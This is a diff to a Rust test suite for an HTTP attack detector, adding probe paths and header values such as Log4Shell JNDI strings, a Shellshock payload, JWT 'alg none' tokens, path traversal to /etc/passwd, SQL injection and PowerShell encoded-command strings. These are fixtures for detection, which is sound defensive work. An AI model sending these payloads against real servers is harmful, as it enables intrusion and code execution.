@@ -149,6 +149,16 @@ const TARGETS: &[(&str, &str)] = &[
     ("GET", "/.codex/config.toml"),
     ("GET", "/actuator;/env"),
     ("GET", "/actuator/./env"),
+    ("GET", "/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload&path=/x"),
+    ("POST", "/saas./resttosaasservlet"),
+    ("GET", "/openam/oauth2/..;/ccversion/Version?jato.pageSession=AKztAAV"),
+    ("GET", "/storage/filesvr.dn?t=vghpI7EToZUDIZDdprSubL3mTZ2"),
+    ("POST", "/?PHPRC=/dev/fd/0"),
+    ("GET", "/sitecore/blocked.aspx"),
+    ("GET", "/casa/private/config/slice/ha/certificate"),
+    ("POST", "/Startup/Register"),
+    ("POST", "/webtools/control/ProgramExport"),
+    ("GET", "/api/modular-connector/login/?origin=mo&type=x"),
 ];
 
 /// What looks like these and is none.
@@ -262,6 +272,40 @@ const FIELDS: &[(&str, &str, bool)] = &[
     ("authorization", "Bearer ';select/**/sleep(5);--", true),
     ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOb25lIn0.eyJzdWIiOiJhIn0.", true),
     ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", false),
+    ("authorization", "Bearer eyJhbGciOiAibm9uZSIsICJ0eXAiOiAiSldUIn0.eyJzdWIiOiJhIn0.", true),
+    (
+        "authorization",
+        "Bearer eyJraWQiOiIxIiwidHlwIjoiSldUIiwiYWxnIjoibm9uZSJ9.eyJzdWIiOiJhIn0.",
+        true,
+    ),
+    (
+        "authorization",
+        "Bearer eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiJhIn0.c2ln",
+        false,
+    ),
+    ("cookie", "token=eyJhbGciOiJOT05FIn0.eyJzdWIiOiJhIn0.", true),
+    ("accept", "../../../../etc/passwd{{", true),
+    ("accept", "text/html, */*;q=0.8", false),
+    ("proxy", "http://192.0.2.9:8080", true),
+    ("connection", "close, X-Forwarded-For", true),
+    ("connection", "keep-alive, Upgrade, HTTP2-Settings", false),
+    ("cookie", "profile=_$$ND_FUNC$$_function(){}()", true),
+    ("cookie", "profile=eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9In0=", true),
+    ("user-agent", "powershell -enc SQBFAFgA", true),
+    ("user-agent", "Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1.19041.1", false),
+    ("user-agent", "Foo/1 (bash; rest; id card)", false),
+    ("x-forwarded-for", "127.0.0.1|id", true),
+    ("x-custom-ip-authorization", "127.0.0.1", true),
+    ("x-originating-ip", "127.0.0.1", true),
+    ("x-originating-ip", "198.51.100.7", false),
+    ("host", "metadata.google.internal", true),
+    ("host", "localhost", false),
+    ("x-druid-comment", "${jndi:ldap://192.0.2.1/a}", true),
+    ("x-api-version", "%24%7Bjndi:ldap://192.0.2.1/a}", true),
+    ("accept", "() { :;}; /bin/id", true),
+    ("transfer_encoding", "chunked", true),
+    ("x-nextjs-request-id", "b5dce965", true),
+    ("referer", "https://shop.example/search?q=how+to+use+%3Cscript%3E+tag", true),
     ("accept-language", "en' or 1=1--", true),
     ("accept-language", "en-GB,en;q=0.8", false),
     ("x-api-key", "${jndi:ldap://192.0.2.1/a}", true),
@@ -290,6 +334,98 @@ fn an_attack_in_a_field_is_an_attempt() {
     }
 }
 
+/// From inside, a proxy names the address that it has.
+#[test]
+fn a_field_that_a_proxy_inside_fills_is_no_attempt() {
+    let event = |client: &str, field: &Value, second: u64| {
+        let mut event = of_field("x-client-ip", &["127.0.0.1"], second);
+        event["source"]["ip"] = client.into();
+        event["http"]["request"]["headers"] = field.clone();
+        event
+    };
+    for (client, field, is_told) in [
+        ("203.0.113.7", json!({"x-client-ip": ["127.0.0.1"]}), true),
+        ("10.0.0.7", json!({"x-client-ip": ["127.0.0.1"]}), false),
+        ("10.0.0.7", json!({"host": ["169.254.169.254"]}), false),
+    ] {
+        let events: Vec<Value> = (0..5).map(|n| event(client, &field, n)).collect();
+        let rules = alerts_of_events(&events);
+        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
+        assert_eq!(told, is_told, "{client} {field}: {rules:?}");
+    }
+}
+
+/// Whoever reads the Referer of the page of a search reads what was judged with the search itself.
+#[test]
+fn a_search_on_the_same_site_counts_once() {
+    for (referrer, is_told) in [
+        ("https://wiki.example/doku.php?do=search&id=start&q=how+to+use+%3Cscript%3E+tag", false),
+        ("https://wiki.example/?page=%3Cscript%3E", true),
+        ("https://wiki.example/?q=' union select 1", true),
+        ("https://other.example/?q=%3Cscript%3E+tag", true),
+    ] {
+        let events = (0..5).map(|n| {
+            let mut event = of_field("referer", &[referrer], n);
+            event["http"]["request"]["headers"]["host"] = json!(["wiki.example"]);
+            event
+        });
+        let rules = alerts_of_events(&events.collect::<Vec<_>>());
+        let told = rules.iter().any(|rule| rule == "http-attack-attempts");
+        assert_eq!(told, is_told, "{referrer}: {rules:?}");
+    }
+}
+
+/// What the server says of a request shows that a hole was used, or that somebody looks for one.
+#[test]
+fn answers_tell_what_a_request_was() {
+    let cases = |request: Value, response: Value, status: u16, count: u64, query: bool| {
+        let events = (0..count).map(|n| {
+            let mut event = of_field("accept", &["*/*"], n);
+            let target = if query { format!("/WebResource.axd?d={n}aBcD") } else { "/".to_owned() };
+            event["url"]["original"] = target.into();
+            event["http"]["request"]["headers"] = request.clone();
+            event["http"]["response"] = json!({"status_code": status, "headers": response});
+            event
+        });
+        alerts_of_events(&events.collect::<Vec<_>>())
+    };
+    let has = |rules: &[String], name: &str| rules.iter().any(|rule| rule == name);
+    let remembered = json!({"cookie": ["rememberMe=c2Vjw=="]});
+    let deleted = json!({"set-cookie": ["rememberMe=deleteMe; Path=/"]});
+    let kept = json!({"set-cookie": ["a=b; Path=/"]});
+    assert!(has(
+        &cases(remembered.clone(), deleted.clone(), 200, 15, false),
+        "http-remember-guessing"
+    ));
+    assert!(!has(&cases(remembered.clone(), deleted, 200, 3, false), "http-remember-guessing"));
+    assert!(!has(&cases(remembered, kept, 200, 15, false), "http-remember-guessing"));
+    let action = json!({"next-action": ["x"]});
+    let output = json!({"x-action-redirect": ["/login?a=uid%3D0;push"]});
+    let login = json!({"x-action-redirect": ["/login?next=%2Fcart;push"]});
+    assert!(has(&cases(action.clone(), output, 303, 1, false), "http-action-output"));
+    assert!(!has(&cases(action, login, 303, 1, false), "http-action-output"));
+    let none = json!({});
+    assert!(has(&cases(none.clone(), none.clone(), 404, 40, true), "http-padding-probing"));
+    assert!(!has(&cases(none.clone(), none, 200, 40, true), "http-padding-probing"));
+}
+
+#[test]
+fn hosts_of_the_inside_asked_for_from_outside_are_told() {
+    for (client, hosts, is_told) in
+        [("203.0.113.7", 10, true), ("203.0.113.7", 3, false), ("10.0.0.7", 30, false)]
+    {
+        let events = (0..hosts).map(|n| {
+            let host = format!("10.1.0.{n}");
+            let mut event = of_field("host", &[&host], n);
+            event["source"]["ip"] = client.into();
+            event
+        });
+        let rules = alerts_of_events(&events.collect::<Vec<_>>());
+        let told = rules.iter().any(|rule| rule == "http-inside-hosts");
+        assert_eq!(told, is_told, "{client} {hosts}: {rules:?}");
+    }
+}
+
 /// Servers take another of them than the first, or log all.
 #[test]
 fn an_attack_in_a_repeated_field_is_an_attempt() {
@@ -304,25 +440,26 @@ fn an_attack_in_a_repeated_field_is_an_attempt() {
 /// Asserts that five requests with this field are attempts of attacks, or raise no alert of them.
 fn attempts(name: &str, values: &[&str], is_attack: bool) {
     // Five: what is no attack adds up to nothing.
-    let events: Vec<Value> = (0..5)
-        .map(|n| {
-            json!({
-                "@timestamp": format!("2026-11-24T10:00:{n:02}Z"),
-                "event": {"kind": "event"},
-                "http_trace": {"missing": []},
-                "source": {"ip": "203.0.113.7"},
-                "destination": {"ip": "10.0.0.2", "port": 80},
-                "url": {"original": "/"},
-                "http": {
-                    "request": {"method": "GET", "headers": {name: values}},
-                    "response": {"status_code": 404},
-                },
-            })
-        })
-        .collect();
+    let events: Vec<Value> = (0..5).map(|n| of_field(name, values, n)).collect();
     let rules = alerts_of_events(&events);
     let told = rules.iter().any(|rule| rule == "http-attack-attempts");
     assert_eq!(told, is_attack, "{name}: {values:?}: {rules:?}");
+}
+
+/// A request of an outside client with this field, in this second, that was refused.
+fn of_field(name: &str, values: &[&str], second: u64) -> Value {
+    json!({
+        "@timestamp": format!("2026-11-24T10:00:{second:02}Z"),
+        "event": {"kind": "event"},
+        "http_trace": {"missing": []},
+        "source": {"ip": "203.0.113.7"},
+        "destination": {"ip": "10.0.0.2", "port": 80},
+        "url": {"original": "/"},
+        "http": {
+            "request": {"method": "GET", "headers": {name: values}},
+            "response": {"status_code": 404},
+        },
+    })
 }
 
 /// The rules above informational that a log raises.
